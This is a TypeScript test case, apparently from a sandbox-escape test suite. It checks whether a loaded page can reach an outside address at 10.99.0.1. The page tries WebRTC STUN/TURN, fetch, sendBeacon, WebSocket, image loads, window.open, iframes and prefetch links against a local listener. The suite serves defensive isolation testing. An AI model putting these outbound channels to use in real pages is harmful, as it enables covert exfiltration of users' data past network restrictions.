import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { type Attack, broken, held } from './attack.ts';
import { listen } from './listener.ts';

/** A page reaches out by every means that a browser has. */
export const webRtc: Attack = {
  id: 'F21',
  what: 'a page reaches an address outside',
  quick: true,
  async play(field) {
    const udp = createSocket('udp4');
    const heard: string[] = [];
    udp.on('message', (message) => heard.push(message.toString('latin1')));
    udp.bind(0, '10.99.0.1');
    await once(udp, 'listening');
    field.after(() => udp.close());
    const tcp = await listen(field, undefined, '10.99.0.1');
    const app = await field.start();
    await app.page.evaluate(
      async ([udpPort, tcpPort]) => {
        const tries: Promise<unknown>[] = [];
        const attempt = (doing: () => unknown): void => {
          try {
            // What counts is what arrives, not what the page is told.
            tries.push(Promise.resolve(doing()).catch(() => undefined));
          } catch {
            // what the page may not do
          }
        };
        attempt(async () => {
          const connection = new RTCPeerConnection({
            iceServers: [
              { urls: `stun:10.99.0.1:${udpPort}` },
              { urls: `turn:10.99.0.1:${udpPort}`, username: 'words-of-the-page', credential: 'x' },
              { urls: `turn:10.99.0.1:${tcpPort}?transport=tcp`, username: 'words-of-the-page', credential: 'x' },
            ],
          });
          connection.createDataChannel('out');
          await connection.setLocalDescription(await connection.createOffer());
          await new Promise((resolve) => {
            setTimeout(resolve, 4000);
            connection.onicegatheringstatechange = () => {
              if (connection.iceGatheringState === 'complete') resolve(null);
            };
          });
        });
        const url = `http://10.99.0.1:${tcpPort}/`;
        attempt(() => fetch(url, { mode: 'no-cors' }));
        attempt(() => navigator.sendBeacon(url, 'words'));
        attempt(() => new WebSocket(url.replace('http', 'ws')));
        attempt(() => {
          new Image().src = url;
        });
        attempt(() => window.open(url));
        attempt(() => {
          const frame = document.createElement('iframe');
          frame.src = url;
          document.body.append(frame);
        });
        attempt(() => {
          const link = document.createElement('link');
          link.rel = 'prefetch';
          link.href = url;
          document.head.append(link);
        });
        await Promise.all(tries);
      },
      [udp.address().port, tcp.port] as const,
    );
    if (heard.length > 0) return broken(`${heard.length} datagrams arrived`);
    if (tcp.connections() > 0) return broken(`${tcp.connections()} connections arrived`);
    return held('nothing arrived, by UDP or TCP');
  },
};
